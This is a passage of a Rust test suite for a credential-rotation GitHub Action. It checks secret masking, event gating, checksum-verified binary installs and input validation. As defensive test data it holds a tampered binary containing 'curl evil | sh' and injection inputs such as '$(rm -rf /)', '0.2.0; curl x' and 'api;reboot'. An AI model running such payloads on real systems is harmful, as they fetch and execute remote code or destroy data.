//! The binary under a simulated GitHub Actions job: GITHUB_ACTIONS, GITHUB_REF,
//! GITHUB_OUTPUT, GITHUB_STEP_SUMMARY and GITHUB_EVENT_PATH as temp files, the event
//! payloads recorded in GitHub's documentation (tests/support/events, see
//! scripts/event-fixtures), stdout and stderr captured as one stream the way the
//! runner's log shows them.

use std::collections::BTreeMap;
use std::process::Stdio;

use serde_json::{Value, json};

use crate::support::Ws;
use crate::support::github::{FakeGitHub, Pull};

const HOME: &str = "acme/ops";
const INTERNAL_TOKEN: &str = "int-tok-5d1f0c9a7b3e4f21a8c6";

const CONFIG: &str = r#"version: 1
state: { store: "github-branch:rotagate-state", recipients: [RECIPIENT] }
credentials:
  - id: api-signing
    owner: "@acme/platform"
    bootstrap: true
    key: { type: rsa, kid: { date: "prod-key-" } }
    schedule: { every: 90d }
    env: [INTERNAL_TOKEN]
    publish:
      - jwks-file: { repo: acme/site, path: public/jwks.json }
    promote:
      - github-secret: { repo: acme/api, set: { SIGNING_KEY: "{{ new.private_pem }}", SIGNING_KID: "{{ new.kid }}" } }
    verify:
      - command: { run: ./check.sh, env: [INTERNAL_TOKEN], stdin: "{{ new.kid }}" }
    drain: 0s
    gate: { pull_request: { approvals: 1 } }
    retire:
      - manual: "Tell the partners kid {{ old.kid }} is retired"
"#;

fn fixture(name: &str) -> Value {
    let path = format!("{}/tests/support/events/{name}.json", env!("CARGO_MANIFEST_DIR"));
    let mut v: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    v["repository"]["full_name"] = HOME.into();
    v["repository"]["name"] = "ops".into();
    v["repository"]["owner"]["login"] = "acme".into();
    v["repository"]["default_branch"] = "main".into();
    v
}

/// A recorded push of `branch` whose commit adds `files`.
fn push(branch: &str, files: &[&str]) -> Value {
    let mut v = fixture("push");
    v["ref"] = format!("refs/heads/{branch}").into();
    v["commits"][0]["added"] = json!(files);
    v["commits"][0]["modified"] = json!([]);
    v["head_commit"] = v["commits"][0].clone();
    v
}

fn dispatch(inputs: Value) -> Value {
    let mut v = fixture("workflow_dispatch");
    v["ref"] = "refs/heads/main".into();
    v["inputs"] = inputs;
    v
}

struct Job {
    code: i32,
    /// stdout and stderr interleaved, in the order they were written.
    log: String,
    outputs: BTreeMap<String, String>,
    summary: String,
}

/// Runs `args` as a step of a job triggered by `event_name` on `git_ref`.
async fn job(
    ws: &Ws,
    fake: &FakeGitHub,
    event_name: &str,
    git_ref: &str,
    event: &Value,
    args: &[&str],
) -> Job {
    let dir = tempfile::tempdir().unwrap();
    let event_path = dir.path().join("event.json");
    std::fs::write(&event_path, event.to_string()).unwrap();
    let output = dir.path().join("output");
    let summary = dir.path().join("summary");
    let log_path = dir.path().join("log");
    let log = std::fs::File::create(&log_path).unwrap();
    let mut cmd = ws.gh_cmd(fake, HOME, args);
    cmd.env("GITHUB_ACTIONS", "true")
        .env("GITHUB_EVENT_NAME", event_name)
        .env("GITHUB_REF", git_ref)
        .env("GITHUB_EVENT_PATH", &event_path)
        .env("GITHUB_OUTPUT", &output)
        .env("GITHUB_STEP_SUMMARY", &summary)
        .env("GITHUB_SERVER_URL", "https://github.com")
        .env("GITHUB_RUN_ID", "7001")
        .env("GITHUB_WORKSPACE", ws.dir.path())
        .env("ROTAGATE_STATE_COPY", ws.path(".rotagate/state.age"))
        .env("INTERNAL_TOKEN", INTERNAL_TOKEN)
        .stdout(Stdio::from(log.try_clone().unwrap()))
        .stderr(Stdio::from(log));
    let status = tokio::process::Command::from(cmd).status().await.unwrap();
    Job {
        code: status.code().unwrap_or(-1),
        log: std::fs::read_to_string(&log_path).unwrap(),
        outputs: parse_outputs(&std::fs::read_to_string(&output).unwrap_or_default()),
        summary: std::fs::read_to_string(&summary).unwrap_or_default(),
    }
}

/// `name<<DELIM\nvalue\nDELIM` blocks, as the runner reads $GITHUB_OUTPUT.
fn parse_outputs(text: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        let (name, delimiter) = line.split_once("<<").expect("delimiter syntax");
        let mut value = Vec::new();
        for l in lines.by_ref() {
            if l == delimiter {
                break;
            }
            value.push(l);
        }
        out.insert(name.to_string(), value.join("\n"));
    }
    out
}

/// Each line of `secret` is announced with `::add-mask::` before any line that is not
/// a mask command, and appears nowhere else.
fn masked_first(log: &str, what: &str, secret: &str) {
    let lines: Vec<&str> = log.lines().collect();
    let first_other =
        lines.iter().position(|l| !l.starts_with("::add-mask::")).unwrap_or(lines.len());
    for part in secret.lines().map(str::trim).filter(|l| l.len() >= 4) {
        let announced = lines
            .iter()
            .position(|l| *l == format!("::add-mask::{part}"))
            .unwrap_or_else(|| panic!("{what}: a line is never masked\n{log}"));
        assert!(announced < first_other, "{what}: masked only after other output\n{log}");
        masked_before_use(log, what, part);
    }
}

/// `part` first appears in the log as its mask command, and only in mask commands.
fn masked_before_use(log: &str, what: &str, part: &str) {
    let mut seen_mask = false;
    for line in log.lines() {
        if line == format!("::add-mask::{part}") {
            seen_mask = true;
        } else if line.contains(part) {
            assert!(line.starts_with("::add-mask::") && seen_mask, "{what} printed: {line}");
        }
    }
    assert!(seen_mask, "{what}: never masked\n{log}");
}

fn kids(fake: &FakeGitHub) -> Vec<String> {
    let text = fake.file("acme/site", "main", "public/jwks.json").unwrap_or_default();
    if text.is_empty() {
        return Vec::new();
    }
    let doc: Value = serde_json::from_str(&text).unwrap();
    doc["keys"].as_array().unwrap().iter().map(|k| k["kid"].as_str().unwrap().to_string()).collect()
}

async fn world() -> (FakeGitHub, Ws) {
    let fake = FakeGitHub::start().await;
    for repo in [HOME, "acme/api", "acme/site"] {
        fake.add_repo(repo);
    }
    fake.install("acme");
    fake.set_permission(HOME, "alice", "write");
    let ws = Ws::new();
    ws.config(CONFIG);
    ws.script(
        "check.sh",
        &format!(
            "#!/bin/sh\n[ \"$INTERNAL_TOKEN\" = \"{INTERNAL_TOKEN}\" ] && [ -n \"$(cat)\" ]\n"
        ),
    );
    (fake, ws)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_job_masks_first_reports_and_follows_its_event() {
    let (fake, ws) = world().await;

    // A scheduled run issues the first key.
    let first = job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["run"]).await;
    assert_eq!(first.code, 0, "{}", first.log);
    masked_first(&first.log, "the state identity", &ws.identity);
    masked_first(&first.log, "the GitHub App key", &fake.app_key_pem);
    masked_first(&first.log, "a credential's env value", INTERNAL_TOKEN);
    let state = ws.state();
    let pem = state["body"]["doc"]["credentials"]["api-signing"]["current"]["secret"]
        .as_str()
        .expect("the state copy decrypts and holds the private key")
        .to_string();
    for line in pem.lines().filter(|l| !l.starts_with("-----")) {
        masked_before_use(&first.log, "the new private key", line);
    }
    assert!(first.log.contains("::group::api-signing") && first.log.contains("::endgroup::"));
    assert_eq!(first.outputs["rotated"], "api-signing");
    assert_eq!(first.outputs["awaiting-approval"], "");
    assert_eq!(first.outputs["failed"], "");
    // The summary: version, owner, outcome, when the next rotation is due, and where
    // the run's encrypted state is.
    assert!(
        first.summary.contains(&format!("### rotagate {} run", env!("CARGO_PKG_VERSION")))
            && first
                .summary
                .contains("| api-signing | @acme/platform | ✅ completed | completed |")
            && first
                .summary
                .lines()
                .any(|l| l.starts_with("| api-signing |") && l.ends_with("Z |"))
            && first
                .summary
                .contains("artifact of [this run](https://github.com/acme/ops/actions/runs/7001)"),
        "{}",
        first.summary
    );
    assert_eq!(first.outputs["summary"].trim(), first.summary.trim());
    let kid1 = fake.secret("acme/api", "SIGNING_KID").unwrap();
    // Only secrets are masked: a kid, a key name and plain words stay readable in the
    // log and in outputs (the runner drops an output holding a masked value).
    for public in [kid1.as_str(), "SIGNING_KID", "main", "true"] {
        assert!(
            !first.log.lines().any(|l| l == format!("::add-mask::{public}")),
            "{public} was masked: {}",
            first.log
        );
    }

    // The incident workflow's dispatch rotates the credential it names.
    let incident = job(
        &ws,
        &fake,
        "workflow_dispatch",
        "refs/heads/main",
        &dispatch(json!({ "credential": "api-signing", "reason": "key seen in a log", "emergency": false })),
        &["run"],
    )
    .await;
    assert_eq!(incident.code, 0, "{}", incident.log);
    assert!(incident.log.contains("workflow_dispatch: rotating api-signing: key seen in a log"));
    assert_eq!(incident.outputs["rotated"], "");
    assert_eq!(incident.outputs["awaiting-approval"], "api-signing");
    let pr: Pull = fake.pulls(HOME).last().unwrap().clone();
    let link = format!("https://github.com/{HOME}/pull/{}", pr.number);
    assert!(
        incident.summary.contains("🔒 awaiting approval") && incident.summary.contains(&link),
        "{}",
        incident.summary
    );
    // The gate's manual steps, rendered, are listed as pending.
    assert!(
        incident.summary.contains(&format!("| Tell the partners kid {kid1} is retired |")),
        "{}",
        incident.summary
    );
    // `audit` too: the events, the rotation's start among them.
    let audit = job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["audit"]).await;
    assert_eq!(audit.code, 0, "{}", audit.log);
    assert!(
        audit.summary.contains(" audit\n") && audit.summary.contains("| api-signing |"),
        "{}",
        audit.summary
    );
    // `status` under Actions writes its own summary: owner, kid, stage, the gate.
    let status = job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["status"]).await;
    assert_eq!(status.code, 0, "{}", status.log);
    assert!(
        status.summary.contains(&format!("### rotagate {} status", env!("CARGO_PKG_VERSION")))
            && status.summary.contains("| api-signing | @acme/platform |")
            && status.summary.contains("retire: waiting"),
        "{}",
        status.summary
    );
    let kid2 = fake.secret("acme/api", "SIGNING_KID").unwrap();
    assert_ne!(kid1, kid2);
    let audit = ws.gh(&fake, HOME, &["audit", "api-signing"]).await;
    assert!(audit.stdout.contains("key seen in a log"), "{}", audit.all());

    // A push to another branch, and a pull request, change nothing.
    let generation = fake.branch_head(HOME, "rotagate-state");
    for (event_name, git_ref, event) in [
        ("push", "refs/heads/feature".to_string(), push("feature", &[])),
        ("pull_request", format!("refs/pull/{}/merge", pr.number), fixture("push")),
        ("pull_request_target", "refs/heads/main".to_string(), fixture("push")),
    ] {
        let refused = job(&ws, &fake, event_name, &git_ref, &event, &["run"]).await;
        assert_eq!(refused.code, 2, "{event_name}: {}", refused.log);
        assert!(
            refused.log.contains("not on the default branch")
                || refused.log.contains("pull request"),
            "{}",
            refused.log
        );
        // The refusal is an annotation and the step summary says why; no outputs.
        assert!(refused.outputs.is_empty(), "{:?}", refused.outputs);
        assert!(
            refused.log.contains("::error title=rotagate::")
                && refused.summary.contains(": stopped")
                && (refused.summary.contains("not on the default branch")
                    || refused.summary.contains("pull request")),
            "{}\n{}",
            refused.log,
            refused.summary
        );
        assert_eq!(
            fake.branch_head(HOME, "rotagate-state"),
            generation,
            "{event_name} moved the state"
        );
    }
    assert_eq!(kids(&fake), vec![kid1.clone(), kid2.clone()]);

    // The approval merged: the push carrying its file retires the old key.
    fake.approve(HOME, pr.number, "alice");
    fake.merge(HOME, pr.number, "bob");
    let approval = ".rotagate/approvals/api-signing/retire.yaml";
    let merged =
        job(&ws, &fake, "push", "refs/heads/main", &push("main", &[approval]), &["run"]).await;
    assert_eq!(merged.code, 0, "{}", merged.log);
    assert!(
        merged.log.contains("push merged approval files: running api-signing"),
        "{}",
        merged.log
    );
    assert_eq!(merged.outputs["rotated"], "api-signing");
    assert_eq!(kids(&fake), vec![kid2.clone()]);

    // The matrix lists credentials with work: none now.
    let plan =
        job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["plan", "--matrix"]).await;
    assert_eq!(plan.code, 0, "{}", plan.log);
    assert_eq!(plan.outputs["matrix"], r#"{"include":[]}"#);
    assert!(
        plan.summary.contains(" plan\n") && plan.summary.contains("| api-signing |"),
        "{}",
        plan.summary
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn config_errors_are_annotations_on_their_line() {
    let (fake, ws) = world().await;
    ws.config(&CONFIG.replace("drain: 0s", "drain: soon"));
    let bad = job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["run"]).await;
    assert_eq!(bad.code, 2, "{}", bad.log);
    let line = CONFIG.lines().position(|l| l.contains("drain: 0s")).unwrap() + 1;
    assert!(
        bad.log.contains(&format!(
            "::error file=rotagate.yaml,line={line},col=12,title=rotagate.yaml::"
        )),
        "{}",
        bad.log
    );
    assert!(
        bad.summary.contains(": stopped") && bad.summary.contains("`soon` is not a duration"),
        "{}",
        bad.summary
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_incident_without_a_reason_is_refused() {
    let (fake, ws) = world().await;
    let run = job(
        &ws,
        &fake,
        "workflow_dispatch",
        "refs/heads/main",
        &dispatch(json!({ "credential": "api-signing", "reason": " " })),
        &["run"],
    )
    .await;
    assert_eq!(run.code, 2, "{}", run.log);
    assert!(run.log.contains("needs one (the `reason` input)"), "{}", run.log);
    assert!(fake.branch_head(HOME, "rotagate-state").is_none(), "nothing was written");
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_are_masked_before_even_a_config_warning() {
    let (fake, ws) = world().await;
    ws.config(
        &CONFIG.replace("    gate: { pull_request: { approvals: 1 } }\n", "    gate: none\n"),
    );
    let run = job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["run"]).await;
    assert_eq!(run.code, 0, "{}", run.log);
    assert!(
        run.log.contains("::warning title=rotagate::")
            && run.log.contains("nobody confirms it was done"),
        "{}",
        run.log
    );
    masked_first(&run.log, "the state identity", &ws.identity);
    masked_first(&run.log, "the GitHub App key", &fake.app_key_pem);
    masked_first(&run.log, "a credential's env value", INTERNAL_TOKEN);
}

/// `action.sh` in a fetched action's layout (`_actions/<owner>/<repo>/<ref>`), with
/// stub `curl` (serving `download`) and `rotagate` (printing what it was given).
struct ActionDir {
    root: tempfile::TempDir,
}

impl ActionDir {
    fn new(sums: &[(&str, &str)], download: &[u8]) -> ActionDir {
        let root = tempfile::tempdir().unwrap();
        let action = root.path().join("_actions/rotagate/rotagate/v1");
        std::fs::create_dir_all(action.join("sums")).unwrap();
        std::fs::copy(concat!(env!("CARGO_MANIFEST_DIR"), "/action.sh"), action.join("action.sh"))
            .unwrap();
        for (version, text) in sums {
            std::fs::write(action.join("sums").join(version), text).unwrap();
        }
        let stubs = root.path().join("stubs");
        std::fs::create_dir_all(&stubs).unwrap();
        std::fs::write(root.path().join("download"), download).unwrap();
        let curl = format!(
            "#!/bin/sh\necho \"$@\" > '{}'\nwhile [ $# -gt 0 ]; do case \"$1\" in --output) out=\"$2\"; shift;; esac; shift; done\ncp '{}' \"$out\"\n",
            root.path().join("curl-args").display(),
            root.path().join("download").display()
        );
        std::fs::write(stubs.join("curl"), curl).unwrap();
        std::fs::write(
            stubs.join("rotagate"),
            "#!/bin/sh\necho \"args: $*\"\necho \"reason: ${ROTAGATE_REASON:-}\"\necho \"only: ${ROTAGATE_ONLY:-}\"\necho \"identity set: ${ROTAGATE_AGE_IDENTITY:+yes}\"\necho \"inputs left: $(env | grep -c '^INPUT_AGE_IDENTITY=')\"\n",
        )
        .unwrap();
        for stub in ["curl", "rotagate"] {
            crate::support::make_executable(&stubs.join(stub));
        }
        std::fs::create_dir_all(root.path().join("temp")).unwrap();
        ActionDir { root }
    }

    fn run(&self, step: &str, env: &[(&str, &str)]) -> (i32, String, String) {
        let action = self.root.path().join("_actions/rotagate/rotagate/v1");
        let output = self.root.path().join("output");
        let _ = std::fs::remove_file(&output);
        let path = format!(
            "{}:{}",
            self.root.path().join("stubs").display(),
            std::env::var("PATH").unwrap()
        );
        let mut cmd = std::process::Command::new("bash");
        cmd.arg(action.join("action.sh"))
            .arg(step)
            .env_clear()
            .env("PATH", path)
            .env("HOME", self.root.path())
            .env("GITHUB_ACTION_PATH", &action)
            .env("RUNNER_TEMP", self.root.path().join("temp"))
            .env("RUNNER_OS", "Linux")
            .env("RUNNER_ARCH", "X64")
            .env("GITHUB_OUTPUT", &output)
            .env("GITHUB_PATH", self.root.path().join("path"));
        for (k, v) in env {
            cmd.env(k, v);
        }
        let out = cmd.output().unwrap();
        (
            out.status.code().unwrap_or(-1),
            format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            ),
            std::fs::read_to_string(&output).unwrap_or_default(),
        )
    }

    /// The runner's own curl instead of the stub.
    fn with_real_curl(self) -> ActionDir {
        std::fs::remove_file(self.root.path().join("stubs/curl")).unwrap();
        self
    }

    fn installed(&self) -> Option<Vec<u8>> {
        std::fs::read(self.root.path().join("temp/rotagate-bin/rotagate")).ok()
    }
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn the_action_installs_only_a_binary_whose_checksum_is_committed() {
    let binary = b"#!/bin/sh\necho rotagate 0.2.0\n";
    let sums = format!("{}  rotagate-x86_64-unknown-linux-gnu\n", sha256_hex(binary));
    let older = format!("{}  rotagate-x86_64-unknown-linux-gnu\n", sha256_hex(b"old"));

    let good = ActionDir::new(&[("0.1.0", &older), ("0.2.0", &sums)], binary);
    let (code, log, outputs) = good.run("install", &[]);
    assert_eq!(code, 0, "{log}");
    assert!(outputs.contains("installed=true"), "{outputs}");
    assert!(
        log.contains("rotagate 0.2.0 (rotagate-x86_64-unknown-linux-gnu, sha256"),
        "newest listed: {log}"
    );
    assert_eq!(good.installed().as_deref(), Some(&binary[..]));
    assert!(outputs.contains("downloaded=true"), "{outputs}");
    let (code, _, outputs) = good.run("cache-key", &[]);
    assert_eq!(code, 0);
    assert!(
        outputs.contains(&format!(
            "cache-key=rotagate-rotagate-x86_64-unknown-linux-gnu-{}",
            sha256_hex(binary)
        )),
        "{outputs}"
    );
    // The next job of the run finds the verified binary in the restored cache and does
    // not download; a cached file that is not the listed one is ignored.
    let _ = std::fs::remove_file(good.root.path().join("curl-args"));
    let (code, log, outputs) = good.run("install", &[]);
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("from this run's cache") && outputs.contains("downloaded=false"));
    assert!(!good.root.path().join("curl-args").exists(), "no download");
    std::fs::write(good.root.path().join("temp/rotagate-cache/rotagate"), b"poisoned").unwrap();
    let (code, log, outputs) = good.run("install", &[]);
    assert_eq!(code, 0, "{log}");
    assert!(outputs.contains("downloaded=true"), "{outputs}");
    assert_eq!(good.installed().as_deref(), Some(&binary[..]));

    let tampered = ActionDir::new(&[("0.2.0", &sums)], b"#!/bin/sh\ncurl evil | sh\n");
    let (code, log, outputs) = tampered.run("install", &[]);
    assert_eq!(code, 1, "{log}");
    assert!(log.contains("checksum mismatch for rotagate-x86_64-unknown-linux-gnu 0.2.0"), "{log}");
    assert!(!outputs.contains("installed="), "no fallback to a build: {outputs}");
    assert!(tampered.installed().is_none());

    let (code, log, _) = good.run("install", &[("INPUT_VERSION", "0.3.0")]);
    assert_eq!(code, 1);
    assert!(log.contains("version 0.3.0 is not listed") && log.contains("0.1.0 0.2.0"), "{log}");
    let (code, log, _) = good.run("install", &[("INPUT_VERSION", "0.2.0; curl x")]);
    assert_eq!(code, 1);
    assert!(log.contains("not a version number"), "{log}");

    // A tag's leading `v` is accepted; curl retries transient failures, not a 404.
    let (code, log, _) = good.run("install", &[("INPUT_VERSION", "v0.1.0")]);
    assert!(log.contains("sums/0.1.0 says"), "{code} {log}");
    let curl_args = std::fs::read_to_string(good.root.path().join("curl-args")).unwrap();
    assert!(
        curl_args.contains("--retry 4") && !curl_args.contains("--retry-all-errors"),
        "{curl_args}"
    );
    // Without a version: the newest release, which sorts after its pre-releases.
    let release =
        ActionDir::new(&[("1.0.0-beta.2", &older), ("1.0.0", &sums), ("0.9.0", &older)], binary);
    let (code, log, _) = release.run("install", &[]);
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("rotagate 1.0.0 ("), "{log}");
    // A release with a static musl build: the Linux runner takes it; macOS x86_64 has
    // its own asset.
    let both = format!(
        "{}  rotagate-x86_64-unknown-linux-gnu\n{}  rotagate-x86_64-unknown-linux-musl\n{}  rotagate-x86_64-apple-darwin\n",
        sha256_hex(b"gnu"),
        sha256_hex(binary),
        sha256_hex(binary)
    );
    let musl = ActionDir::new(&[("1.1.0", &both)], binary);
    let (code, log, _) = musl.run("install", &[]);
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("(rotagate-x86_64-unknown-linux-musl, sha256"), "{log}");
    let (code, log, _) = musl.run("install", &[("RUNNER_OS", "macOS")]);
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("(rotagate-x86_64-apple-darwin, sha256"), "{log}");
    let arm = format!(
        "{}  rotagate-aarch64-unknown-linux-gnu\n{}  rotagate-aarch64-unknown-linux-musl\n",
        sha256_hex(b"gnu"),
        sha256_hex(binary)
    );
    let arm = ActionDir::new(&[("1.1.0", &arm)], binary);
    let (code, log, _) = arm.run("install", &[("RUNNER_ARCH", "ARM64")]);
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("(rotagate-aarch64-unknown-linux-musl, sha256"), "{log}");

    // A runner without a release binary, or no release at all, fails: nothing is ever
    // compiled in the job that holds the secrets; the message says what to do.
    let (code, log, outputs) = good.run("install", &[("RUNNER_OS", "Windows")]);
    assert_eq!(code, 1, "{log}");
    assert!(
        log.contains("no release binary for this runner (version '0.2.0', target 'unsupported'")
            && log
                .contains("rotagate is never compiled in the job that holds the rotation secrets")
            && log.contains("workflows/rotate-from-source.yml"),
        "{log}"
    );
    assert!(outputs.is_empty(), "{outputs}");
    let unreleased = ActionDir::new(&[], b"");
    let (code, log, _) = unreleased.run("install", &[]);
    assert_eq!(code, 1, "{log}");
    assert!(good.installed().is_some() && unreleased.installed().is_none());

    // A binary from a build job without secrets runs only with its checksum.
    let built = unreleased.root.path().join("built-rotagate");
    std::fs::write(&built, binary).unwrap();
    let given = built.to_str().unwrap();
    let (code, log, outputs) = unreleased
        .run("install", &[("INPUT_BINARY", given), ("INPUT_BINARY_SHA256", &sha256_hex(binary))]);
    assert_eq!(code, 0, "{log}");
    assert!(outputs.contains("installed=true"), "{outputs}");
    assert_eq!(unreleased.installed().as_deref(), Some(&binary[..]));
    let other = ActionDir::new(&[], b"");
    let (code, log, _) = other
        .run("install", &[("INPUT_BINARY", given), ("INPUT_BINARY_SHA256", &sha256_hex(b"other"))]);
    assert_eq!(code, 1);
    assert!(log.contains("checksum mismatch for the binary input"), "{log}");
    assert!(other.installed().is_none());
    let (code, log, _) = other.run("install", &[("INPUT_BINARY", given)]);
    assert_eq!(code, 1);
    assert!(log.contains("input binary needs binary-sha256"), "{log}");
}

/// A release download over HTTPS as github.com serves it: the asset URL answers 302 to
/// the object store, which serves the bytes; anything else is 404.
async fn fake_release(pki: &crate::support::tls::Pki, asset: Vec<u8>) -> String {
    use axum::response::IntoResponse;
    use axum::routing::get;
    let app = axum::Router::new()
        .route(
            "/rotagate/rotagate/releases/download/v0.2.0/rotagate-x86_64-unknown-linux-gnu",
            get(|| async {
                (axum::http::StatusCode::FOUND, [("location", "/objects/release-asset-41")])
                    .into_response()
            }),
        )
        .route(
            "/objects/release-asset-41",
            get(move || {
                let asset = asset.clone();
                async move { asset }
            }),
        );
    format!("https://127.0.0.1:{}", crate::support::tls::serve_https(app, pki).await.port())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_action_downloads_a_release_over_https_with_real_curl_and_verifies_it() {
    let pki = crate::support::tls::Pki::new();
    let ca = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(ca.path(), &pki.ca_pem).unwrap();
    let ca_path = ca.path().to_str().unwrap().to_string();
    let binary = b"#!/bin/sh\necho rotagate 0.2.0\n".to_vec();
    let sums = format!("{}  rotagate-x86_64-unknown-linux-gnu\n", sha256_hex(&binary));

    // The release serves the listed bytes: followed through the redirect, verified,
    // installed.
    let server = fake_release(&pki, binary.clone()).await;
    let good = ActionDir::new(&[("0.2.0", &sums)], b"").with_real_curl();
    let env = [("GITHUB_SERVER_URL", server.as_str()), ("CURL_CA_BUNDLE", ca_path.as_str())];
    let (code, log, outputs) = tokio::task::block_in_place(|| good.run("install", &env));
    assert_eq!(code, 0, "{log}");
    assert!(outputs.contains("installed=true"), "{outputs}");
    assert_eq!(good.installed(), Some(binary.clone()));

    // A release whose asset differs from sums/: refused, nothing installed.
    let tampered = fake_release(&pki, b"#!/bin/sh\ncurl evil | sh\n".to_vec()).await;
    let bad = ActionDir::new(&[("0.2.0", &sums)], b"").with_real_curl();
    let env = [("GITHUB_SERVER_URL", tampered.as_str()), ("CURL_CA_BUNDLE", ca_path.as_str())];
    let (code, log, _) = tokio::task::block_in_place(|| bad.run("install", &env));
    assert_eq!(code, 1, "{log}");
    assert!(log.contains("checksum mismatch"), "{log}");
    assert!(bad.installed().is_none());

    // A version whose asset the release lacks (404), and a server curl does not trust.
    let missing = ActionDir::new(&[("0.2.0", &sums)], b"").with_real_curl();
    let (code, log, _) = tokio::task::block_in_place(|| {
        missing.run(
            "install",
            &[("GITHUB_SERVER_URL", &format!("{server}/elsewhere")), ("CURL_CA_BUNDLE", &ca_path)],
        )
    });
    assert_eq!(code, 1, "{log}");
    assert!(log.contains("cannot download"), "{log}");
    let (code, log, _) =
        tokio::task::block_in_place(|| missing.run("install", &[("GITHUB_SERVER_URL", &server)]));
    assert_eq!(code, 1, "{log}");
    assert!(log.contains("cannot download"), "{log}");
    assert!(missing.installed().is_none());
}

#[test]
fn the_action_validates_its_inputs_and_passes_them_as_environment() {
    let action = ActionDir::new(&[], b"");
    let identity = "AGE-SECRET-KEY-1QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ";
    let (code, log, outputs) = action.run(
        "run",
        &[
            ("INPUT_COMMAND", "rotate"),
            ("INPUT_ONLY", "api-signing"),
            ("INPUT_REASON", "leaked; $(rm -rf /)"),
            ("INPUT_EMERGENCY", "true"),
            ("INPUT_AGE_IDENTITY", identity),
        ],
    );
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("args: rotate api-signing --emergency"), "{log}");
    assert!(log.contains("reason: leaked; $(rm -rf /)"), "passed as data: {log}");
    assert!(log.contains("identity set: yes") && log.contains("inputs left: 0"), "{log}");
    assert!(!log.contains(identity), "{log}");
    assert!(outputs.contains("state-copy=") && outputs.contains("artifact=rotagate-state-"));

    let (code, log, _) = action.run("run", &[("INPUT_ONLY", "a,b"), ("INPUT_COMMAND", "run")]);
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("args: run") && log.contains("only: a,b"), "{log}");
    let (code, log, _) = action.run("run", &[("INPUT_COMMAND", "matrix")]);
    assert_eq!(code, 0);
    assert!(log.contains("args: plan --matrix"), "{log}");

    for (env, expected) in [
        (vec![("INPUT_COMMAND", "rm")], "input command must be one of"),
        (vec![("INPUT_ONLY", "api;reboot")], "is not a credential id"),
        (vec![("INPUT_COMMAND", "rotate"), ("INPUT_ONLY", "api")], "needs input reason"),
        (vec![("INPUT_COMMAND", "rollback"), ("INPUT_ONLY", "a,b")], "exactly one credential id"),
        (vec![("INPUT_EMERGENCY", "yes")], "must be true or false"),
        (vec![("INPUT_AGE_IDENTITY", "not-a-key")], "holds no AGE-SECRET-KEY-1"),
        (vec![("INPUT_REASON", "two\nlines")], "input reason must be one line"),
    ] {
        let (code, log, _) = action.run("run", &env);
        assert_eq!(code, 1, "{env:?}: {log}");
        assert!(log.contains(expected), "{env:?}: {log}");
        assert!(!log.contains("args:"), "rotagate ran for {env:?}");
    }
}

#[test]
fn the_action_and_every_workflow_keep_to_the_rules() {
    let root = env!("CARGO_MANIFEST_DIR");
    let action = std::fs::read_to_string(format!("{root}/action.yml")).unwrap();
    let mut files = vec![("action.yml".to_string(), action)];
    for dir in ["workflows", ".github/workflows"] {
        for entry in std::fs::read_dir(format!("{root}/{dir}")).unwrap() {
            let path = entry.unwrap().path();
            files.push((path.display().to_string(), std::fs::read_to_string(&path).unwrap()));
        }
    }
    let pinned = is_pinned();
    for (name, text) in &files {
        let doc: serde_yaml::Value = serde_yaml::from_str(text).unwrap();
        for line in text.lines().map(str::trim) {
            let Some(uses) = line.strip_prefix("uses: ").or_else(|| line.strip_prefix("- uses: "))
            else {
                continue;
            };
            if uses.starts_with("./") {
                continue;
            }
            assert!(
                pinned(uses),
                "{name}: `{uses}` is not pinned to a commit with a version comment"
            );
        }
        // Inputs reach scripts through env:, never as expressions inside run:.
        for run in runs(&doc) {
            assert!(!run.contains("${{"), "{name}: an expression inside run: {run}");
        }
        if name.contains("workflows/rotate-") {
            let jobs = doc["jobs"].as_mapping().unwrap();
            for (id, job) in jobs {
                // The jobs that run rotagate hold the secrets, in the rotation
                // environment; any other job (a build) sees neither.
                let job_text = serde_yaml::to_string(job).unwrap();
                if job_text.contains("rotagate/rotagate@") {
                    assert_eq!(job["environment"].as_str(), Some("rotation"), "{name}: job {id:?}");
                } else {
                    assert!(
                        job.get("environment").is_none() && !job_text.contains("secrets."),
                        "{name}: job {id:?} does not run rotagate, so it gets no secrets"
                    );
                }
                assert!(job["permissions"].is_mapping(), "{name}: job {id:?} sets no permissions");
            }
            assert!(doc["concurrency"]["group"].is_string(), "{name}: no concurrency group");
            let on = &doc["on"];
            assert!(
                on.get("pull_request").is_none() && on.get("pull_request_target").is_none(),
                "{name}"
            );
        }
    }
}

/// `owner/repo[/path]@<40 hex> # <version>`
fn is_pinned() -> impl Fn(&str) -> bool {
    |uses: &str| {
        let Some((action, rest)) = uses.split_once('@') else {
            return false;
        };
        let Some((sha, comment)) = rest.split_once(" # ") else {
            return false;
        };
        action.split('/').count() >= 2
            && sha.len() == 40
            && sha.chars().all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase())
            && !comment.trim().is_empty()
    }
}

fn runs(doc: &serde_yaml::Value) -> Vec<String> {
    let mut out = Vec::new();
    match doc {
        serde_yaml::Value::Mapping(m) => {
            for (k, v) in m {
